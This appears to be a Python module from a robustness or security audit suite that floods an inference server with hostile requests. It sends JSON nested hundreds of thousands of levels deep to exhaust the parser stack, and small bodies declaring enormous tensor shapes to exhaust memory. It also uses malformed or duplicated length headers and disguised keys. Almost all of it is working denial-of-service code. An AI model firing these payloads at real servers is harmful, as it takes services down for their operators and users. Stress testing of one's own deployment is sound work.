"""Bodies that a JSON reader follows until its stack ends, or fills memory for."""

import json
import time
from collections.abc import Iterator

from deploy.audit.door import Door
from deploy.audit.http1 import request
from deploy.hostile.crowd import crowd, turns
from deploy.hostile.heard import Heard
from deploy.hostile.wire import hear

#: Enough to end Triton's stack of 8 MiB several times over.
DEPTH = 400_000
#: More elements than there is data for: a GiB of memory, and more than any machine has.
SHAPES = ([2**28], [2**18, 2**10], [2**40], [1, 2**62], [2**32, 2**32])


def deep(door: Door, heard: Heard, seconds: float) -> None:
    """Send bodies that nest, in all shapes and under all headers that we know."""
    bodies = list(_bodies(door))

    def client(number: int) -> None:
        for turn in turns(seconds):
            status, _ = hear(door, bodies[(2 * turn + number) % len(bodies)], heard)
            if not status:
                time.sleep(0.1)  # there may be nobody to answer

    crowd(2, client)


def nested(door: Door, depth: int) -> Iterator[bytes]:
    """Yield JSON that nests so deep."""
    open_list, open_map = b"[" * depth, b'{"a":' * depth
    question = json.loads(door.body)
    name = json.dumps(question["inputs"][0]["name"]).encode()
    start = door.body.rstrip(b"}")
    yield open_list  # never closed: the reader has to go down before it sees that
    yield open_map
    yield open_list + b"]" * depth
    yield b'[{"a":' * (depth // 2)
    yield b" \n\t[" * depth
    yield b'{"inputs":' + open_list
    yield b'{"inputs":[{"name":' + name + b',"shape":[1],"datatype":"FP32","data":' + open_list
    yield start + b',"parameters":{"a":' + open_map
    yield start + b',"outputs":[{"name":' + open_list
    yield b'{"id":"]]]]}}}}\\"",' + b'"a":' + open_list  # closers in a string close nothing
    yield b"\xef\xbb\xbf" + open_list  # behind a byte order mark


def shapes(door: Door, heard: Heard, seconds: float) -> None:
    """Send small bodies that say they hold huge tensors."""
    bodies = [body for shape in SHAPES for body in shaped(door, shape)]
    for turn in turns(seconds):
        status, _ = hear(door, request(door, bodies[turn % len(bodies)]), heard)
        if not status:
            time.sleep(0.1)


def shaped(door: Door, shape: list[int]) -> Iterator[bytes]:
    """Yield the question with another shape, said plainly and so that not all readers see it."""
    question = json.loads(door.body)
    question["inputs"][0]["shape"] = shape
    said = json.dumps(question)
    yield said.encode()
    yield said.replace('"shape":', '"sh\\u0061pe" \n:\t').encode()
    yield said.replace('"shape":', '"shape":[1,1],"shape":').encode()


def _bodies(door: Door) -> Iterator[bytes]:
    for body in nested(door, DEPTH):
        yield request(door, body)
        yield request(door, body, {"content-type": "application/octet-stream"})
        yield request(door, body, chunk=65536)
        yield request(door, body, {"inference-header-content-length": str(len(body))})
        # What follows the JSON is a tensor's bytes.
        tensor = {"inference-header-content-length": str(len(body))}
        yield request(door, body + bytes(256), tensor)
    body = b"[" * DEPTH
    for name in ("application/json", "application/grpc", "application/grpc-web", "text/plain", ""):
        yield request(door, body, {"content-type": name})
    for length in ("0", "-1", "1", "x", "99999999999", f"{DEPTH}, {DEPTH}"):
        yield request(door, body, {"inference-header-content-length": length})
    yield request(door, body, {"Inference-Header-Content-Length": str(DEPTH)}, chunk=8192)
